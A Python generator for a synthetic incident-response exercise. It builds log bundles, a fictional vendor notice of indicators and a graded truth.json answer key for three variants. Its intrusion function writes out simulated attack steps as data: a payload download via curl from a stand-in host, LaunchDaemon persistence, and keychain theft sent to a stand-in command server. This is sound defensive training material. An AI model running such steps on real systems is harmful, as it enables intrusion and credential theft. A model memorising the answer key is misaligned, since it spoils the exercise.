"""Thistlewick Studio: an intrusion that indicators show, or only its look-alikes, or logs that begin too late."""
import gzip
import hashlib
import json

from making import chance as chances
from making.case import Case, Company, Host, Row, compact, rhythm
from making.chance import HOUR, MINUTE, SECOND, Chance, moment, rfc3339
from making.records import (AGENT, admin_of, agent_log, browser, cloud, dns, edr, http, insight, order, osquery, proxy,
                            result, run, sign_in, tls, tls_only, touch)
from making.writing import ALIASES, render, times_of


def at(day, clock):
    """Of a day in September 2024."""
    return chances.at(2024, 9, day, clock)


# ---------------------------------------------------------------- the company

STUDIO = "thistlewick.example"
OFFICE = "192.0.2.10"
ROAMING_EXIT = "203.0.113.61"    # on the list, but also the exit of a VPN service that anybody may rent
INTRUDER = "203.0.113.118"
EXPIRED = "198.51.100.23"        # on the list for February to April 2023 only
MACS = [
    ("easel", "10.44.7.21", "jonas.brandt", 2, "producer's Mac"),
    ("gouache", "10.44.7.22", "mira.okafor", 2, "designer's Mac"),
    ("lightbox", "10.44.7.23", "pia.lindqvist", 2, "illustrator's Mac"),
    ("palette", "10.44.7.24", "tomasz.wilk", 2, "illustrator's Mac"),
    ("vellum", "10.44.7.25", "saoirse.daly", 1, "writer's Mac"),
    ("stylus", "10.44.7.26", "emre.aydin", 3, "sales Mac"),
    ("gesso", "10.44.7.27", "noor.haddad", 2, "developer's Mac"),
]
ADMINS = ["anke.ops@" + STUDIO, "ravi.ops@" + STUDIO]

# Names that the studio's machines ask for every day, with the address that answers.
SITES = {
    "cdn.typefoundry.example": "198.18.21.7", "mail.hostpost.example": "198.18.40.25",
    "api.rendercloud.example": "198.18.63.90", "updates.paintbox.example": "198.18.88.14",
    "news.papertrade.example": "198.19.4.44", "repo.linuxmirror.example": "198.19.70.3",
    "agent.jumpcloud.com": "198.19.112.9", "console.jumpcloud.com": "198.19.112.31",
}

# What the notice lists. The file never existed: its hash is that of a sentence.
SWATCHD_SHA256 = hashlib.sha256(b"clew example: the swatchd that never was").hexdigest()
LOADER_SHA1 = hashlib.sha1(b"clew example: the loader that never was").hexdigest()
ARCHIVE_MD5 = hashlib.md5(b"clew example: the archive that never was").hexdigest()
QUARANTINED_SHA256 = hashlib.sha256(b"clew example: the file that was caught").hexdigest()
BROKEN_SHA256 = hashlib.sha256(b"clew example: a digit is missing").hexdigest()[:63]

WINDOW = (at(16, "00:00:00"), at(26, "00:00:00"))  # as the notice says: 16 to 25 September
PLACES = {"office": ("DE", "Europe/Berlin", 50.94, 6.96, "North Rhine-Westphalia", "EU"),
          "abroad": ("PT", "Europe/Lisbon", 38.72, -9.14, "Lisbon", "EU"),
          "far": ("SG", "Asia/Singapore", 1.35, 103.82, "Singapore", "AS")}
BROWSERS = {"Mac OS X": ("Safari", "17.6"), "admin": ("Firefox", "130.0")}


def people(case):
    for name, ip, user, offset, role in MACS:
        case.hosts[name] = Host(name, ip, user, offset, "Mac OS X", role)
    case.hosts["magnifier"] = Host("magnifier", "10.44.9.40", "ines.faro", 1, "Mac OS X", "analyst workstation")
    case.hosts["press-1"] = Host("press-1", "10.44.30.5", "render", 0, "Ubuntu", "render server")
    case.hosts["press-2"] = Host("press-2", "10.44.30.6", "render", 0, "Ubuntu", "render server")
    case.hosts["letterbox"] = Host("letterbox", "10.44.0.25", None, 0, "appliance", "mail gateway with URL scanner")
    case.hosts["signpost"] = Host("signpost", "10.44.0.53", None, 0, "appliance", "DNS resolver")
    case.hosts["turnstile"] = Host("turnstile", "10.44.0.80", None, 0, "appliance", "web proxy")
    for host in case.hosts.values():
        host.id = case.chance.hex(24) if host.os != "appliance" else None
        host.pid = case.chance.between(200, 990)


# ---------------------------------------------------------------- everyday life

def working(ms):
    return moment(ms).weekday() < 5 and 6 <= moment(ms).hour < 17


def everyday(case):
    macs = [case.hosts[row[0]] for row in MACS]
    servers = [case.hosts["press-1"], case.hosts["press-2"]]
    pick, chance = case.chance.pick, case.chance
    sites = list(SITES)
    for ms in rhythm(case, 125 * MINUTE):
        host = pick(macs if working(ms) else servers)
        name = pick(sites[:6]) if host in macs else pick(["repo.linuxmirror.example", "agent.jumpcloud.com"])
        tls(case, ms, host, name, SITES[name])
    for ms in rhythm(case, 5 * HOUR):
        host = pick(macs + servers)
        http(case, ms, host, "repo.linuxmirror.example", SITES["repo.linuxmirror.example"],
             "/dists/stable/" + chance.hex(6), "apt/2.6" if host in servers else "Mozilla/5.0 (Macintosh)")
    for ms in rhythm(case, 150 * MINUTE):
        host = pick(macs if working(ms) else [servers[0]])
        if host in macs:
            run(case, ms, host, "/usr/bin/git", "git fetch --prune", "/bin/zsh", chance.between(900, 9000))
        elif chance.below(4) == 0:
            run(case, ms, host, "/usr/bin/df", "df -h /", AGENT, host.pid, "root")
        else:
            run(case, ms, host, "/usr/bin/rsync", "rsync -a /srv/frames/ /srv/proof/", "/usr/sbin/cron", 611, "render")
    for ms in rhythm(case, 7 * HOUR):
        host = pick(macs)
        touch(case, ms, host, "write", "/Users/%s/Documents/board-%s.sketch" % (host.user, chance.hex(4)),
              "/Applications/Paintbox.app/Contents/MacOS/Paintbox", chance.between(900, 9000))
        if chance.below(3) == 0:
            osquery(case, ms + 40 * SECOND, host, "new_file_hashes",
                    {"path": "/Users/%s/Downloads/font.otf" % host.user, "directory": "/Users/%s/Downloads" % host.user,
                     "sha256": hashlib.sha256(chance.hex(8).encode()).hexdigest()})
    for ms in rhythm(case, 5 * HOUR):
        host = pick(macs)
        if working(ms):
            sign_in(case, ms, host, pick(["Rendercloud", "Hostpost"]), mfa=chance.below(3) == 0)
        else:
            insight(case, ms, {"initiated_by": {"type": "user", "username": host.user}, "auth_type": "eap",
                               "eap_type": "MSCHAPv2", "mfa": False, "success": True, "username": host.user},
                    "radius_auth_attempt", "radius", device=host.name)
    for ms in rhythm(case, 20 * HOUR):
        insight(case, ms, {"initiated_by": admin_of(ADMINS[0]), "useragent": browser(case, "admin"), "success": True,
                           "mfa": True}, "admin_login_attempt")
    mornings(case)
    orders(case)
    for ms in rhythm(case, 9 * HOUR):
        if chance.below(2):
            cloud(case, ms, "svc-render", "AKIAEXAMPLERENDER001", ("s3", "PutObject"),
                  parameters={"bucketName": "proofs"})
        else:
            cloud(case, ms, "svc-render", "AKIAEXAMPLERENDER001", ("sts", "GetCallerIdentity"))
    for name in ("gouache", "press-1"):
        host = case.hosts[name]
        for ms in rhythm(case, 11 * HOUR):
            if chance.below(3):
                agent_log(case, ms, host, "[INFO] User updates complete", host.pid)
            else:
                url = "https://agent.jumpcloud.com:443/poll/" + host.id
                agent_log(case, ms, host, "[ERROR] failed to poll server: Get %s: EOF" % url, host.pid)
    for ms in rhythm(case, 8 * HOUR):
        proxy(case, ms, pick(macs), "TCP_TUNNEL/200", "api.rendercloud.example:443")
    for ms in rhythm(case, 13 * HOUR):
        edr(case, ms, pick(macs), pick(["event=scan_complete findings=0", "event=policy_update revision=17"]))


def mornings(case):
    """Every device with endpoint telemetry starts its agent now and then, so that none of them is unseen."""
    for day in (16, 25):
        for host in case.hosts.values():
            if host.id and host.name != "press-2":
                starter = "/sbin/launchd" if host.os == "Mac OS X" else "/usr/lib/systemd/systemd"
                ms = at(day, "05:30:00") + case.chance.below(90 * MINUTE)
                run(case, ms, host, AGENT, AGENT, starter, 1, "root", signer="com.jumpcloud.agent", pid=host.pid)


def orders(case):
    """What the studio's own admins run: an order in the insights, a process on the device, a result."""
    gallery = [("Mac - Free Disk Space", "df -h /", "/bin/df"),
               ("Mac - Installed Fonts", "ls /Library/Fonts", "/bin/ls")]
    ids = {title: hashlib.sha256(title.encode()).hexdigest()[:24] for title, _, _ in gallery}
    for ms in rhythm(case, 26 * HOUR):
        host = case.hosts[case.chance.pick(["easel", "lightbox", "vellum", "gesso"])]
        title, command, path = case.chance.pick(gallery)
        order(case, ms, ADMINS[0], host, ids[title], title)
        shell = run(case, ms + 6 * SECOND, host, "/bin/bash", "/bin/bash -c " + command, AGENT, host.pid, "root")
        run(case, ms + 6 * SECOND, host, path, command, "/bin/bash", shell, "root")
        result(case, ms, ms + 9 * SECOND, host, ids[title], title, command)


# ---------------------------------------------------------------- the intrusion

def intrusion(case):
    """The supplier's agent on the designer's Mac runs a script that nobody at the studio ordered."""
    host = case.hosts["gouache"]
    start = at(18, "09:12:07")
    script, program = "/private/var/tmp/.jc-refresh.sh", "/usr/local/libexec/swatchd"

    tag = "I1_script"
    touch(case, start, host, "write", script, AGENT, host.pid, tag)
    shell = run(case, start + SECOND, host, "/bin/sh", "/bin/sh " + script, AGENT, host.pid, "root", tag)

    tag = "I2_download"
    url = "https://dl.brush-sync.example/v2/swatch.tgz"
    run(case, start + 2 * SECOND, host, "/usr/bin/curl", "curl -fsSLo /private/var/tmp/s.tgz " + url, "/bin/sh", shell,
        "root", tag)
    tls(case, start + 2340, host, "dl.brush-sync.example", "198.18.77.41", tag=tag, sent=880, received=1_912_044)
    touch(case, start + 7 * SECOND, host, "write", program, "/usr/bin/tar", shell + 3, tag)

    tag = "I3_program"
    pid = run(case, start + 9 * SECOND, host, program, program, "/bin/sh", shell, "root", tag, signer="")
    osquery(case, start + 13 * SECOND, host, "new_file_hashes",
            {"path": program, "directory": "/usr/local/libexec", "sha256": SWATCHD_SHA256}, tag)

    tag = "I4_persistence"
    plist = "/Library/LaunchDaemons/com.swatchbook.swatchd.plist"
    touch(case, start + 19 * MINUTE, host, "write", plist, program, pid, tag)
    run(case, start + 19 * MINUTE + 2 * SECOND, host, "/bin/launchctl", "launchctl load -w " + plist, program, pid,
        "root", tag)

    tag = "I5_beacon"
    for beat, offset in enumerate([14_400, 35 * MINUTE + 1200, 70 * MINUTE + 900]):
        tls(case, start + offset, host, "pigment-cdn.test", INTRUDER, 8443, tag, sent=540 + beat, received=690 + beat)
    http(case, start + 95 * MINUTE, host, "pigment-cdn.test", INTRUDER, "/v2/tick?n=4", "swatchd/2.1", 8080, tag)

    tag = "I6_keychain"
    keychain = "/Users/mira.okafor/Library/Keychains/login.keychain-db"
    touch(case, start + 110 * MINUTE, host, "open", keychain, program, pid, tag)
    tls_only(case, start + 111 * MINUTE, host, "pigment-cdn.test", INTRUDER, 8443, tag, sent=4_100_220, received=7_300)

    tag = "I7_clean_up"
    run(case, start + 125 * MINUTE, host, "/bin/rm", "rm -f %s /private/var/tmp/s.tgz" % script, program, pid, "root",
        tag)


# ---------------------------------------------------------------- the look-alikes

def look_alikes(case):
    hosts, chance = case.hosts, case.chance
    analyst, gateway = hosts["magnifier"], hosts["letterbox"]

    def explain(tag, why):
        case.why[tag] = why
        return tag

    tag = explain("L01_expired_address", "the address was the intruder's from February to April 2023 only")
    tls(case, at(20, "14:20:31.200"), hosts["press-1"], "fonts.papertrade.example", EXPIRED, tag=tag)

    tag = explain("L02_vendor_post", "the analyst reads what a security vendor wrote about the case")
    tls(case, at(26, "12:31:04.100"), analyst, "blog.threatdesk.example", "198.19.201.6", tag=tag)
    tag = explain("L03_list_at_rest", "the analyst stores a list of indicators, which then lies among the evidence")
    run(case, at(26, "12:44:10"), analyst, "/usr/bin/curl",
        "curl -o /Users/ines.faro/work/jumpcloud-list.txt https://blog.threatdesk.example/lists/jumpcloud.txt",
        "/bin/zsh", 4410, tag=tag)
    listed = ["brush-sync.example", "pigment-cdn.test", "fontmirror.example", "kerning-api.example", INTRUDER,
              SWATCHD_SHA256]
    for value in listed:
        case.add("indicator_list.txt", "list", at(26, "12:44:10"), value, tag, analyst.name)
    tag = explain("L04_search_command", "the analyst's search has indicators on its command line")
    run(case, at(26, "12:52:41"), analyst, "/usr/bin/grep",
        "grep -rE brush-sync.example|pigment-cdn.test|203.0.113.118 /Users/ines.faro/work/logs", "/bin/zsh", 4410,
        tag=tag)
    tag = explain("L05_research_lookups", "the analyst asks for listed names; they do not exist any more (NXDOMAIN)")
    asked = ["brush-sync.example", "fontmirror.example", "kerning-api.example", "glyph-relay.test"]
    for beat, name in enumerate(asked):
        dns(case, at(26, "13:05:00") + beat * 2100, analyst, name, [], tag, rcode=("NXDOMAIN", 3))
    tag = explain("L06_reverse_lookup", "the analyst looks up which name a listed address has")
    dns(case, at(26, "13:06:20"), analyst, "118.113.0.203.in-addr.arpa", ["host118.rent-a-rack.example"], tag,
        ("PTR", 12))

    tag = explain("L07_longer_name", "other domains, which only contain a listed name")
    tls(case, at(19, "08:10:22.500"), hosts["lightbox"], "airbrush-sync.example", "198.18.140.2", tag=tag)
    tls(case, at(24, "07:55:02.700"), hosts["vellum"], "fontmirror.example.typefoundry.example", "198.18.21.8", tag=tag)
    tag = explain("L08_block_list", "the mail gateway asks a block list about a listed name; that is the list's domain")
    dns(case, at(19, "03:31:40"), gateway, "fontmirror.example.dbl.spamwatch.example", ["127.0.0.2"], tag)
    dns(case, at(25, "05:14:09"), gateway, "ligature-updates.invalid.dbl.spamwatch.example", [], tag,
        rcode=("NXDOMAIN", 3))
    tag = explain("L09_gateway_scan", "the mail gateway fetches a listed link to scan it")
    tls(case, at(25, "06:02:11.400"), gateway, "proofsheet.example", "198.18.91.77", tag=tag, sent=610, received=1400)
    tag = explain("L10_sinkhole", "the resolver answered 0.0.0.0 and no connection followed")
    for beat in range(2):
        dns(case, at(24, "10:40:18") + beat * 4000, hosts["palette"], "kerning-api.example", ["0.0.0.0"], tag)
    tag = explain("L11_proxy_denied", "the proxy refused the request (403)")
    proxy(case, at(24, "13:21:45.330"), hosts["easel"], "TCP_DENIED/403", "glyph-relay.test:443", tag,
          via="HIER_NONE/-")
    proxy(case, at(24, "13:21:52.018"), hosts["easel"], "TCP_DENIED/403", "http://glyph-relay.test/f/regular.woff",
          tag, "GET", "HIER_NONE/-")
    tag = explain("L12_quarantine", "the endpoint product put a listed file into quarantine before it ran")
    edr(case, at(23, "09:50:13"), hosts["palette"], 'event=quarantine action=quarantined executed=false sha256=%s '
        'path="/Users/tomasz.wilk/Downloads/brushes.zip" verdict=malicious' % QUARANTINED_SHA256, tag)
    tag = explain("L13_certificate_mail", "a certificate monitor mails listed names")
    certificate_mail(case, tag)
    tag = explain("L14_placeholder",
                  "version 0.0.1-security is the registry's harmless placeholder of a removed package")
    lock_file(case, tag)
    tag = explain("L15_audit", "a build prints the advisory of a listed package, which it does not use")
    build_log(case, tag)
    tag = explain("L16_traveller", "an employee on a journey signs in through a VPN exit that is also on the list: "
                  "own Mac, usual browser, second factor, no admin")
    sign_in(case, at(23, "17:41:09.214"), hosts["stylus"], "Hostpost", True, ROAMING_EXIT, "abroad", tag)
    sign_in(case, at(23, "18:26:55.871"), hosts["stylus"], "Rendercloud", True, ROAMING_EXIT, "abroad", tag)
    tag = explain("L17_failed_logins", "password guessing from a listed address; every attempt failed")
    for beat, name in enumerate(["admin", "anke.ops", "anke.ops", "studio"]):
        insight(case, at(22, "23:14:05.400") + beat * 37 * SECOND,
                {"initiated_by": {"type": "user", "username": name}, "success": False, "mfa": False,
                 "error_message": "authentication failed"}, "user_login_attempt", ip=ROAMING_EXIT, place="far",
                tag=tag)
    tag = explain("L18_queued_order",
                  "a Mac was asleep: the order is a day older than the run, and the result joins them")
    asked, answered, host = at(17, "15:48:20.100"), at(18, "16:22:31.900"), hosts["vellum"]
    command_id, title = hashlib.sha256(b"queued").hexdigest()[:24], "Mac - List Local Users"
    order(case, asked, ADMINS[1], host, command_id, title, tag)
    run(case, answered - 3 * SECOND, host, "/bin/bash", "/bin/bash -c dscl . list /Users", AGENT, host.pid, "root", tag)
    result(case, asked, answered, host, command_id, title, "dscl . list /Users", tag)


def certificate_mail(case, tag):
    text = ("From: certificate watch <watch@certwatch.example>\n"
            "To: security@" + STUDIO + "\n"
            "Subject: Certificates that match your words\n"
            "Date: Mon, 23 Sep 2024 04:10:00 +0000\n"
            "Content-Type: text/plain; charset=utf-8\n"
            "\n"
            "New certificates for names with your words (brush, font, glyph):\n"
            "\n"
            "  brush-sync.example     not before 2024-09-12\n"
            "  glyph-relay.test       not before 2024-09-20\n"
            "  paintbrush.example     not before 2024-09-22")
    case.add("certwatch.eml", "mail", at(23, "04:10:00"), text, tag, lines=(9, 10))


def lock_file(case, tag):
    def package(name, version):
        return '    "node_modules/%s": { "version": "%s", "resolved": "https://mirror.npm.example/%s/-/%s-%s.tgz" }' % (
            name, version, name, name, version)
    packages = package("tinycolor2", "1.6.0") + ",\n" + package("swatch-utils-loader", "0.0.1-security")
    text = '{\n  "name": "storyboard",\n  "lockfileVersion": 3,\n  "packages": {\n' + packages + "\n  }\n}"
    case.add("package-lock.json", "lock", at(24, "09:00:00"), text, tag, "gesso", lines=(6,))


def build_log(case, tag):
    words = ["build 512: checkout main", "npm ci --ignore-scripts", "added 318 packages in 9s", "npm audit",
             "# npm audit report", "easel-hooks-core  *", "Severity: critical", "Malware in easel-hooks-core",
             "note: named by the advisory feed, not in the dependency tree", "0 vulnerabilities in installed packages",
             "build 512: done"]
    for beat, text in enumerate(words):
        ms = at(24, "09:03:00") + beat * SECOND
        case.add("build-512.log", "ci", ms, rfc3339(ms, 0) + " " + text, tag if "easel-hooks-core" in text else "",
                 "press-1")


def damage(case):
    """Exports are as they come: some lines are cut off, some records come twice."""
    for file, victims in (("osquery_results.ndjson", 2), ("zeek_dns.ndjson", 1)):
        plain = [row for row in case.files[file] if not row.tag]
        for _ in range(victims):
            row = case.chance.pick(plain)
            row.text, row.tag = row.text[:len(row.text) * 3 // 5], "X1_cut_line"
    for file in ("jumpcloud_insights.ndjson", "zeek_conn.ndjson"):
        row = case.chance.pick([row for row in case.files[file] if not row.tag])
        case.files[file].append(Row(row.ms, row.text, "X2_repeated_record", row.device))


def inventory(case):
    rows = [{"hostname": host.name, "system_id": host.id, "ip": host.ip, "user": host.user,
             "tz_offset_hours": host.offset, "os": host.os, "role": host.role} for host in case.hosts.values()]
    case.add("assets.json", "assets", case.begin, "[\n" + ",\n".join("  " + compact(row) for row in rows) + "\n]")


# ---------------------------------------------------------------- writing it down

def gaps_of(case):
    gaps = []
    for stream, first in case.late.items():
        start = rfc3339(times_of(case, stream)[0], 0)
        gaps.append({"kind": "late_start", "stream": stream, "aliases": ALIASES[stream], "from": rfc3339(WINDOW[0], 0),
                     "to": start, "why": "the log does not reach back"})
    if case.outage:
        for stream in ("zeek_conn", "zeek_dns", "zeek_ssl", "zeek_http"):
            times = times_of(case, stream)
            gaps.append({"kind": "outage", "stream": stream, "aliases": ALIASES[stream],
                         "from": rfc3339(max(ms for ms in times if ms <= case.outage[0]), 0),
                         "to": rfc3339(min(ms for ms in times if ms >= case.outage[1]), 0),
                         "why": "no records, although there were some before and after"})
    gaps.append({"kind": "host_unseen", "stream": "osquery", "host": "press-2", "aliases": ["press-2"],
                 "from": rfc3339(WINDOW[0], 0), "to": rfc3339(WINDOW[1], 0),
                 "why": "the device has the supplier's agent but no endpoint telemetry"})
    return [{"id": "G%d" % (number + 1), **gap} for number, gap in enumerate(gaps)]


def truth_of(case, verdict, places, streams):
    planted = sorted(tag for tag in places if tag.startswith("I"))
    host = case.hosts["gouache"]
    bystanders = {place["device"] for tag in places if tag.startswith("L") for place in places[tag]}
    bystanders = sorted(bystanders - {None, "letterbox"})
    credit = {"hit": {"hit": 1, "suspicious": 0.4, "cannot_say": 0.1},
              "not_seen": {"not_seen": 1, "cannot_say": 0.3, "suspicious": 0.2},
              "cannot_say": {"cannot_say": 1, "suspicious": 0.3}}[verdict]
    truth = {
        "schema": "clew.truth/1", "bundle": {"variant": case.name}, "company": "Thistlewick Studio",
        "window": {"from": rfc3339(WINDOW[0], 0), "to": rfc3339(WINDOW[1], 0)},
        "verdict": {"expected": verdict, "credit": credit},
        "earliest": None, "door": {"kind": None, "credit": {}}, "devices": [], "accounts": [],
        "rotation": {"required": [], "forbidden": [
            {"rid": "bystander:" + name, "what": "secrets of a device that only carries a look-alike",
             "devices": [name], "accounts": [case.hosts[name].user],
             "kinds": ["keychain", "password", "session", "ssh_key", "secret", "token"]}
            for name in bystanders]},
        "gaps": gaps_of(case), "indicators_touched": [],
        "decoys": [{"tag": tag, "why": case.why[tag],
                    "devices": sorted({place["device"] for place in places[tag] if place["device"]}),
                    "records": places[tag]} for tag in sorted(case.why) if tag in places],
        "planted": [{"tag": tag, "device": host.name, "records": places[tag]} for tag in planted],
        "context": [{"tag": tag, "records": places[tag]} for tag in sorted(places) if tag.startswith("X")],
        "files": streams,
    }
    if planted:
        first = places[planted[0]][0]
        touched = ["203.0.113.118", "brush-sync.example", "pigment-cdn.test", SWATCHD_SHA256]
        truth["earliest"] = {key: first[key] for key in ("time", "file", "line", "offset")}
        truth["earliest"] |= {"tag": planted[0], "also": []}
        truth["door"] = {"kind": "supplier_channel", "credit": {}}
        truth["devices"] = [{"name": host.name, "system_id": host.id, "ip": host.ip, "user": host.user,
                             "since": first["time"], "found_by": ["indicator", "behaviour"],
                             "first_indicator": places["I2_download"][0]["time"]}]
        truth["accounts"] = [{"name": host.user, "kind": "user", "status": "exposed", "names": [host.user]}]
        truth["rotation"]["required"] = [
            {"rid": "keychain:" + host.name, "what": "secrets in the login keychain",
             "kinds": ["keychain", "password", "secret"], "devices": [host.name], "accounts": [host.user]},
            {"rid": "admin_api_keys", "what": "the admin API keys (the supplier could use them)",
             "kinds": ["api_key"], "any": True}]
        truth["indicators_touched"] = touched
    return truth


NOTICE = """\
# Security notice: misuse of the commands framework

JumpCloud · Issued 26 September 2024 · TLP:CLEAR

## What happened

On 24 September 2024 we found that somebody used our **commands framework** to have our agent start scripts on devices
of a few customers. The orders were placed from inside our own systems; the customers' administrators did not give
them, and they do not appear in the customers' Directory Insights. We removed the access on the same day.

We know of fewer than ten devices. If yours was among them you have heard from us; this notice is for everybody else
who wants to be sure.

## What to do

1. Look at the time from **16 September to 25 September 2024**.
2. Compare what the agent started on your devices with what your administrators ordered.
3. Search DNS, network and endpoint records for the values below.
4. Replace your administrators' API keys.

## What to look for

The script fetched an archive from hxxps://dl.brush-sync[.]example/v2/swatch.tgz and started a program from it, seen
as `/usr/local/libexec/swatchd`. The program called pigment-cdn[.]test on port 8443 every half hour. Some of the
requests came from an address of a hosting company, 203.0.113[.]118, and, at the end, over IPv6 from
2001:db8:5eed::61.

Older lists still name 198.51.100[.]23. It belonged to this group from February to April 2023 only; before and after
that it was somebody else's, so do not match it outside that time.

Two harmful npm packages with a similar loader were removed from the registry: `swatch-utils-loader` and
`easel-hooks-core`. It keeps an empty version 0.0.1-security of each in its place. The invitations to install them were
sent by billing[@]proofsheet[.]example.

| Type | Value | Remark |
|---|---|---|
| domain | `brush-sync[.]example` | delivery |
| domain | `pigment-cdn[.]test` | command and control |
| domain | `fontmirror[.]example` | delivery, not seen since August |
| domain | `kerning-api(.)example` | command and control |
| domain | `glyph-relay[dot]test` | command and control |
| domain | `ligature-updates[.]invalid` | registered, never used |
| domain | `proofsheet[.]example` | phishing |
| ipv4 | `203.0.113[.]61` | shared exit of a VPN service, judge together with other evidence |
| ipv4 | `203.0.113[.]118` | command and control |
| ipv6 | `2001:db8:5eed::61` | command and control |
| cidr | `192.0.2[.]192/28` | rented by the group, nothing seen from it yet |
| file path | `/usr/local/libexec/swatchd` | second stage |
| sha256 | `{swatchd}` | swatchd, second stage |
| sha256 | `{quarantined}` | archive with the loader |
| sha1 | `{loader}` | loader inside the npm packages |
| md5 | `{archive}` | swatch.tgz |
| sha256 | `{broken}` | script |

## Contact

Our support portal: https://support.jumpcloud.com, or security@jumpcloud.com. How to export Directory Insights:
https://docs.jumpcloud.com/api/.

---
*Exercise material. The incident, the values and the text are invented; the supplier never wrote this.*
"""


def notice():
    return NOTICE.format(swatchd=SWATCHD_SHA256, quarantined=QUARANTINED_SHA256, loader=LOADER_SHA1,
                         archive=ARCHIVE_MD5, broken=BROKEN_SHA256).encode()


def make(name):
    verdict, seed, begin, density = CASES[name]
    case = Case(name, Chance(seed), begin, at(28, "00:00:00"), density)
    case.company = Company("10.44.0.53", OFFICE, "studio", PLACES, BROWSERS)
    case.organization = hashlib.sha256(STUDIO.encode()).hexdigest()[:24]
    people(case)
    if name == "first-light":
        case.outage = (at(21, "04:12:00"), at(22, "10:27:00"))
    if name == "blind":
        case.late = {"di": at(24, "06:00:00"), "results": at(24, "06:00:00"), "osquery": at(24, "12:00:00")}
        case.late |= {stream: at(24, "11:00:00") for stream in ("zeek_conn", "zeek_dns", "zeek_ssl", "zeek_http")}
    everyday(case)
    if verdict == "hit":
        intrusion(case)
    look_alikes(case)
    damage(case)
    inventory(case)
    contents, places, streams = render(case)
    truth = truth_of(case, verdict, places, streams)
    files = {"notice.md": notice(), "truth.json": (json.dumps(truth, indent=1, ensure_ascii=False) + "\n").encode()}
    for file, content in contents.items():
        files["evidence/" + file] = gzip.compress(content, 9, mtime=0) if file.endswith(".gz") else content
    return files


CASES = {"first-light": ("hit", 20240926, at(14, "00:00:00"), 0.9),
         "quiet": ("not_seen", 20240927, at(14, "00:00:00"), 0.55),
         "blind": ("cannot_say", 20240928, at(14, "00:00:00"), 0.55)}
